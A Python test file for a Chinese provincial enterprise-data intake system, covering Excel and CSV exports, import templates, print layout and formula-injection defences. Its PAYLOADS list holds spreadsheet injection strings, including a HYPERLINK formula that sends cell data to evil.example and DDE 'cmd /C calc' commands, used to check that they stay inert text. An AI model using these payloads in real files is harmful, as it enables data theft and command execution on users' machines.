"""The Excel files of intake read as an office reads them (openpyxl on the produced bytes): exports with visible
Chinese headings, names not codes, print setup, identical bytes for the same data; templates with text formats,
named drop-downs, a visible 代码表, a Chinese 说明, the 示例 row, locked headings; formula payloads inert in every
export and report."""

import csv
import datetime as dt

import openpyxl
import pytest

from jingkai.accounts.scope import PROVINCE
from jingkai.enterprises.models import Enterprise, EnterpriseFinance
from jingkai.enterprises.uscc import make_uscc
from jingkai.intake.services import export, run_import, write_template
from jingkai.intake.tests.test_intake import ENT_HEAD, LZ1, enterprises_csv, messages, write_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0"]
AS_OF = dt.date(2026, 11, 30)


def headings(ws) -> dict[str, str]:
    """key (hidden row 4) → the visible heading (row 3)."""
    return {k.value: h.value for h, k in zip(ws[3], ws[4], strict=True) if k.value}


def test_enterprise_export_reads_like_a_list(tmp_path, site_data):
    out = tmp_path / "企业.xlsx"
    assert export("enterprises", out, PROVINCE, as_of=AS_OF) == 120
    wb = openpyxl.load_workbook(out)
    ws = wb["数据"]
    assert ws["A1"].value == "全省企业名录" and "数据截至：2026年11月30日" in ws["A2"].value and "共 120 条" in ws["A2"].value
    heads = headings(ws)
    assert all(heads.values()) and len(heads) == ws.max_column  # every column has its visible heading
    assert heads["uscc"] == "统一社会信用代码" and heads["size_class"] == "企业规模"
    assert ws.row_dimensions[4].hidden and not ws.row_dimensions[3].hidden
    assert ws.freeze_panes == "B5"
    keys = [c.value for c in ws[4]]
    rows = [{k: c.value for k, c in zip(keys, r, strict=True)} for r in ws.iter_rows(min_row=5)]
    assert [r["#"] for r in rows] == list(range(1, 121))
    row = next(r for r in rows if r["name"] == "兰州测试企业000有限公司")
    assert row["zone_code"] == "兰州经济技术开发区" and row["size_class"] == "大型"
    assert row["ownership"] == "内资" and row["above_scale"] in ("是", "否")
    assert row["industry_code"].startswith("C3841 ")  # 行业 names repeat across levels: code and name
    assert ws.cell(5, keys.index("uscc") + 1).number_format == "@"
    # print: A4, landscape (wide), one page wide, heading repeats, page numbers
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth in (None, 1)  # 1 is the default
    assert ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$3:$3" and "&P" in ws.oddFooter.center.text
    assert wb.properties.creator == "甘肃省商务厅" and wb.properties.created == dt.datetime(2026, 11, 30)
    assert wb.properties.title == "全省企业名录"
    for col, width in ws.column_dimensions.items():
        assert 6 <= width.width <= 52, col


def test_export_imports_back_unchanged_and_twice_gives_the_same_bytes(tmp_path, site_data):
    for kind in ("enterprises", "enterprise-years", "zone-indicators"):
        first, second = tmp_path / f"{kind}-1.xlsx", tmp_path / f"{kind}-2.xlsx"
        export(kind, first, PROVINCE, as_of=AS_OF)
        export(kind, second, PROVINCE, as_of=AS_OF)
        assert first.read_bytes() == second.read_bytes(), kind
        again = run_import(kind, first)
        assert again.ok and again.created == again.updated == 0 and again.unchanged > 0, (kind, messages(again))
        for headings in ("labels", "keys"):  # the CSV for people (Chinese headings) and for other systems
            csv_out = tmp_path / f"{kind}-{headings}.csv"
            export(kind, csv_out, PROVINCE, headings=headings)
            again = run_import(kind, csv_out)
            assert again.ok and again.created == again.updated == 0, (kind, headings, messages(again))


def test_enterprise_years_show_years_and_amounts_as_people_read_them(tmp_path, site_data):
    first = Enterprise.objects.get(name="兰州测试企业000有限公司")
    EnterpriseFinance.objects.filter(enterprise=first, year=2024).update(revenue=8519805.859999999)
    out = tmp_path / "年度.xlsx"
    export("enterprise-years", out, PROVINCE, as_of=AS_OF)
    ws = openpyxl.load_workbook(out)["数据"]
    heads = headings(ws)
    assert heads["revenue"] == "营业收入（万元）" and heads["year"] == "年度" and all(heads.values())
    keys = [c.value for c in ws[4]]
    rows = [{k: c for k, c in zip(keys, r, strict=True)} for r in ws.iter_rows(min_row=5)]
    latest = next(r for r in rows if r["year"].value == 2024)
    assert latest["year"].number_format == "0"  # 2024, not 2,024
    assert latest["revenue"].value == 8519805.86 and latest["revenue"].number_format == "#,##0.00"
    assert latest["strategic_emerging"].value == "是"
    assert latest["niche_market_share"].number_format == "0.00%"
    again = run_import("enterprise-years", out)  # 8519805.86 is the stored value to 15 digits: unchanged
    assert again.ok and again.updated == 0, messages(again)


def test_zone_indicator_export_names_zone_and_indicator(tmp_path, site_data, lz_zone_user):
    out = tmp_path / "指标.xlsx"
    export("zone-indicators", out, lz_zone_user.scope, as_of=AS_OF)
    ws = openpyxl.load_workbook(out)["数据"]
    assert ws["A1"].value == "兰州经济技术开发区园区指标值"
    keys = [c.value for c in ws[4]]
    rows = [{k: c.value for k, c in zip(keys, r, strict=True)} for r in ws.iter_rows(min_row=5)]
    assert {r["zone_code"] for r in rows} == {"兰州经济技术开发区"}
    assert "规模以上工业总产值（万元）" in {r["indicator"] for r in rows}
    ratio = next(r for r in rows if r["indicator"].startswith("企业R&D经费投入强度"))
    assert "fraction" not in ratio["indicator"] and ratio["unit"] == "比例（0—1）"


def test_template_is_filled_as_an_office_fills_it(tmp_path, zones):
    tpl = write_template("enterprise-years", tmp_path / "tpl.xlsx")
    wb = openpyxl.load_workbook(tpl)
    assert wb.sheetnames == ["数据", "代码表", "说明"] and wb["代码表"].sheet_state == "visible"
    ws = wb["数据"]
    keys = [c.value for c in ws[4]]
    assert ws.protection.sheet and ws["B3"].protection.locked and not ws["B5"].protection.locked
    text_columns = {"uscc", "year"} - {"year"}
    for key in text_columns:
        assert ws.cell(5, keys.index(key) + 1).number_format == "@"
    ruled = {next(iter(dv.sqref.ranges)).min_col for dv in ws.data_validations.dataValidation}
    assert all(dv.errorStyle in (None, "stop") for dv in ws.data_validations.dataValidation)
    assert len(ruled) == len(keys) - 1 - sum(1 for k in keys if k in ("honors", "chain_honors"))  # all but lists
    notes = wb["说明"]
    texts = [str(c.value) for r in notes.iter_rows() for c in r if c.value is not None]
    assert any("整数，不小于 0" in t for t in texts) and not any("e+18" in t for t in texts)
    assert not any(t in ("true", "false") for t in texts)
    assert ws["A5"].value == "示例"

    tpl = write_template("enterprises", tmp_path / "ent.xlsx")
    wb = openpyxl.load_workbook(tpl)
    codes = wb["代码表"]
    names = {(r[0].value, r[2].value) for r in codes.iter_rows(min_row=4)}
    assert {("所在园区", "兰州经济技术开发区"), ("企业规模", "小型"), ("是否规上", "是")} <= names
    ws = wb["数据"]
    keys = [c.value for c in ws[4]]
    for key in ("uscc", "zone_code", "industry_code", "established", "size_class"):
        assert ws.cell(5, keys.index(key) + 1).number_format == "@", key
    formula = {dv.formula1 for dv in ws.data_validations.dataValidation}
    assert "list_size_class" in formula and "list_above_scale" in formula


def test_formula_payloads_stay_text_in_every_export_and_report(tmp_path, zones):
    rows = [[make_uscc("620100", f"MA0000C{i}"), name, "GS-LZ", "C3841", "small", "是", ""]
            for i, name in enumerate(PAYLOADS)]
    result = run_import("enterprises", write_csv(tmp_path / "evil.csv", ENT_HEAD, rows))
    assert result.ok, messages(result)
    out = tmp_path / "evil.xlsx"
    export("enterprises", out, PROVINCE, as_of=AS_OF)
    ws = openpyxl.load_workbook(out)["数据"]
    names = [c for r in ws.iter_rows(min_row=5) for c in r if c.value in PAYLOADS]
    assert len(names) == 4 and all(c.data_type == "s" for c in names)
    assert b"<f>" not in out.read_bytes()
    for headings, name in (("labels", "企业名称"), ("keys", "name")):
        out_csv = tmp_path / f"evil.{headings}.out.csv"
        export("enterprises", out_csv, PROVINCE, headings=headings)
        exported = {r[name] for r in csv.DictReader(out_csv.open(encoding="utf-8-sig"))}
        assert exported == {"'" + p for p in PAYLOADS}
        again = run_import("enterprises", out_csv)  # the ' comes off again: nothing changes
        assert again.ok and again.unchanged == 4 and again.updated == 0, messages(again)

    bad = [[p, "x", "GS-LZ", "C3841", "", "", ""] for p in PAYLOADS]
    report = run_import("enterprises", write_csv(tmp_path / "bad.csv", ENT_HEAD, bad)).report_path
    wb = openpyxl.load_workbook(report)
    cells = [c for name in wb.sheetnames for r in wb[name].iter_rows() for c in r if c.value in PAYLOADS]
    assert cells and all(c.data_type == "s" for c in cells)


def test_negative_numbers_stay_numbers_in_csv(tmp_path, site_data):
    first = Enterprise.objects.get(name="兰州测试企业000有限公司")
    EnterpriseFinance.objects.filter(enterprise=first, year=2024).update(net_profit=-250.5)
    out = tmp_path / "years.csv"
    export("enterprise-years", out, PROVINCE)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert any(r["净利润（万元）"] == "-250.5" for r in rows)


@pytest.mark.parametrize("kind", ["enterprises", "enterprise-years", "zone-indicators"])
def test_every_template_has_its_example_ignored(tmp_path, zones, kind):
    tpl = write_template(kind, tmp_path / f"{kind}.xlsx")
    result = run_import(kind, tpl)
    assert not result.ok or result.created == 0
    assert all(e.row != 5 for e in result.errors), messages(result)
    _ = enterprises_csv, LZ1


def test_wide_monthly_report_template_imports_like_the_long_one(tmp_path, zones):
    from jingkai.zones.models import Indicator, IndicatorValue

    tpl = write_template("zone-indicators", tmp_path / "月报.xlsx", wide=True)
    wb = openpyxl.load_workbook(tpl)
    ws = wb["数据"]
    keys = [c.value for c in ws[4]]
    monthly = list(Indicator.objects.filter(frequency="month").values_list("key", flat=True))
    assert keys[:3] == ["#", "zone_code", "period"] and keys[3:-2] == monthly and keys[-2:] == ["source", "note"]
    heads = headings(ws)
    assert heads["industrial_output"] == "规模以上工业总产值（万元）" and ws["A1"].value == "园区指标值月报表导入模板"
    row = [None, "兰州经济技术开发区", "2025-10"] + [None] * len(monthly)
    row[keys.index("industrial_output")] = 1900
    row[keys.index("trade_total")] = 350.5
    ws.append(row)
    wb.save(tpl)
    result = run_import("zone-indicators", tpl)
    assert result.ok and result.created == 2, messages(result)
    stored = dict(IndicatorValue.objects.filter(zone__code="GS-LZ", period="2025-10").values_list("indicator__key",
                                                                                                  "value"))
    assert stored == {"industrial_output": 1900, "trade_total": 350.5}
    bad = openpyxl.load_workbook(tpl)
    bad["数据"].cell(6, keys.index("trade_total") + 1, "三百")
    bad.save(tpl)
    result = run_import("zone-indicators", tpl)
    assert [(e.row, e.value) for e in result.errors] == [(6, "三百")]


def render_pdf(path, tmp_path):
    """The workbook rendered by LibreOffice, as an office prints it: (pages, page width > height, text by page)."""
    import shutil
    import subprocess

    if shutil.which("soffice") is None or shutil.which("pdfinfo") is None:
        pytest.fail("渲染测试需要 LibreOffice 和 poppler：apt-get install libreoffice-calc poppler-utils", pytrace=False)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), str(path)], check=True, capture_output=True, timeout=180)
    pdf = tmp_path / (path.stem + ".pdf")
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))
    w, h = (float(x) for x in next(line for line in info.splitlines() if line.startswith("Page size:")).split()[2:5:2])
    texts = [subprocess.run(["pdftotext", "-f", str(p), "-l", str(p), str(pdf), "-"], check=True, capture_output=True,
                            text=True).stdout for p in range(1, pages + 1)]
    return pages, w > h, texts


def test_export_prints_landscape_with_its_heading_on_every_page(tmp_path, site_data):
    out = tmp_path / "enterprises.xlsx"
    export("enterprises", out, PROVINCE, as_of=AS_OF)
    pages, landscape, texts = render_pdf(out, tmp_path)
    assert landscape and 1 <= pages <= 3  # 120 rows, one page wide
    assert "全省企业名录" in texts[0] and "第 1 页" in texts[0]
    assert all("统一社会信用代码" in t and "信用风险分类" in t for t in texts)  # heading repeated, no column cut off


def test_cli_export_with_a_date_reproduces_the_file(tmp_path, site_data):
    from django.core.management import call_command

    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    for out in (a, b):
        call_command("export", "zone-indicators", "--out", str(out), "--zone", "GS-LZ", "--date", "2026-11-30")
    assert a.read_bytes() == b.read_bytes()
    wb = openpyxl.load_workbook(a)
    assert wb["数据"]["A1"].value == "兰州经济技术开发区园区指标值" and "2026年11月30日" in wb["数据"]["A2"].value
